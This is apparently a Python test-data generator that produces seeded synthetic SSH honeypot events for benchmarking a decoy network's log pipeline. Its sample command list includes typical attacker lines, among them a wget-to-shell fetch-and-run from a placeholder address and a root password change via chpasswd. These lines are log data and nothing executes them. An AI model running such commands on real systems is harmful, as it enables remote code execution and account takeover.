"""The events that the master's benchmarks store: made from a seed, the same every time.

A network of `DECKIES` deckies on `WORKERS` workers is visited as honeypots are: a few addresses come all day, thousands
come once. Each visit is one connection that tries some user names and passwords out of the lists that bots carry; one
in eight gets in, looks around, fetches something and goes. What a decky's own log says stands beside what its kernel
showed, as both reach the event log of a worker.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import islice
from typing import Any

from decnet_core.events import Event, EventType, Trust, to_syslog
from decnet_core.syslog.rfc5424 import encode

WORKERS = 8
DECKIES = 120
ATTACKERS = 5_000
SECRETS = 20_000
FIRST_AT = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)

_USERS = ("root", "admin", "ubuntu", "test", "oracle", "postgres", "pi", "git", "user", "ftpuser")
_COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | head -n 1",
    "cd /tmp; wget -q http://198.51.100.9/x.sh -O- | sh",
    "free -m",
    'echo "root:Xk29fhA1"|chpasswd|bash',
    "crontab -l",
    "rm -rf /tmp/secure.sh; pkill -9 secure.sh",
    "ls -la /root/.ssh",
)


def realistic(count: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """Make lines of many visits; each with the host name of the worker whose log it stands in."""
    return islice(_lines(_visits(random.Random(seed))), count)


def credentials_only(count: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """Make lines of which every one is a password that was tried, one in two never seen before."""
    return islice(_lines(_attempts(random.Random(seed))), count)


class Visitor:
    """One connection of one attacker to one decky, and how its events are written."""

    def __init__(self, chance: random.Random, number: int) -> None:
        self.chance = chance
        self._decky = chance.randrange(DECKIES)
        # The square of an even draw: the first addresses come a hundred times as often as the last.
        self._attacker = int(chance.random() ** 2 * ATTACKERS)
        self._port = 32768 + chance.randrange(28000)
        self._session = f"{number:08x}{chance.getrandbits(32):08x}"
        self.pid = 1000 + number % 60_000

    @property
    def worker(self) -> str:
        """The worker that runs the decky."""
        return f"site-{self._decky % WORKERS}"

    def event(self, event_type: EventType, number: int, *, trust: Trust = Trust.SENSOR, **rest: Any) -> Event:
        """Make its next event."""
        return Event(
            at=FIRST_AT + timedelta(microseconds=number * 1357),
            decky=f"srv-{self._decky:03}",
            service="ssh",
            event_type=event_type,
            trust=trust,
            source="tap/5f3c0de1" if trust is Trust.SENSOR else f"container/{self._decky:012x}",
            cursor=f"{number}.0",
            src_ip=f"203.0.{self._attacker // 250}.{self._attacker % 250 + 1}",
            src_port=self._port,
            dst_ip=f"192.0.2.{self._decky}",
            dst_port=22,
            session=self._session,
            pid=self.pid,
            **rest,
        )


def _visits(chance: random.Random) -> Iterator[tuple[str, Event]]:
    number = 0
    visit = 0
    while True:
        visit += 1
        visitor = Visitor(chance, visit)
        for event_type, trust, fields, text in _steps(visitor):
            number += 1
            yield visitor.worker, visitor.event(event_type, number, trust=trust, fields=fields, text=text)


def _steps(visitor: Visitor) -> Iterator[tuple[EventType, Trust, dict[str, str], str]]:
    """Tell a visit's events: type, trust, fields, words."""
    sensor, guest, chance = Trust.SENSOR, Trust.GUEST, visitor.chance
    yield EventType.CONNECTION_OPENED, sensor, {}, ""
    gets_in = chance.random() < 0.125
    tries = chance.randint(1, 3)
    for attempt in range(tries):
        user, password = _pair(chance)
        yield EventType.CREDENTIAL_TRIED, sensor, {"user": user, "password": password, "by": "sshd"}, ""
        if gets_in and attempt == tries - 1:
            text = f"Accepted password for {user} from 203.0.113.7 port 4711 ssh2"
            yield EventType.LOGIN_SUCCEEDED, guest, {"user": user, "method": "password"}, text
            text = f"pam_unix(sshd:session): session opened for user {user}(uid=0) by (uid=0)"
            yield EventType.SESSION_OPENED, guest, {"user": user}, text
            for _ in range(chance.randint(2, 8)):
                fields = {"command": chance.choice(_COMMANDS), "exe": "/usr/bin/bash", "user": user, "uid": "0"}
                yield EventType.COMMAND_RUN, sensor, fields, ""
            fields = {"path": "/root/.x.sh", "sha256": f"{chance.getrandbits(256):064x}", "size_bytes": "48213"}
            yield EventType.FILE_CAPTURED, sensor, fields | {"stored_as": "q", "user": user}, ""
            yield EventType.SESSION_CLOSED, guest, {"user": user}, "pam_unix(sshd:session): session closed"
        else:
            text = f"Failed password for {user} from 203.0.113.7 port 4711 ssh2"
            yield EventType.LOGIN_FAILED, guest, {"user": user, "method": "password"}, text
    if chance.random() < 0.3:
        text = "error: kex_exchange_identification: read: Connection reset by peer"
        yield EventType.GUEST_LINE, guest, {}, text
    yield EventType.CONNECTION_CLOSED, sensor, {"reason": "closed by peer"}, ""


def _pair(chance: random.Random) -> tuple[str, str]:
    """Draw a user name and password out of the lists that bots share, the first ones most often."""
    number = int(chance.random() ** 2 * SECRETS)
    return _USERS[number % len(_USERS)], f"P{number:05}!word"


def _attempts(chance: random.Random) -> Iterator[tuple[str, Event]]:
    number = 0
    while True:
        visitor = Visitor(chance, number)
        for _ in range(6):
            number += 1
            user, password = ("root", f"new-{number}") if number % 2 else _pair(chance)
            fields = {"user": user, "password": password, "by": "sshd"}
            yield visitor.worker, visitor.event(EventType.CREDENTIAL_TRIED, number, fields=fields)


def _lines(events: Iterator[tuple[str, Event]]) -> Iterator[tuple[str, bytes]]:
    for worker, event in events:
        yield worker, encode(to_syslog(event))
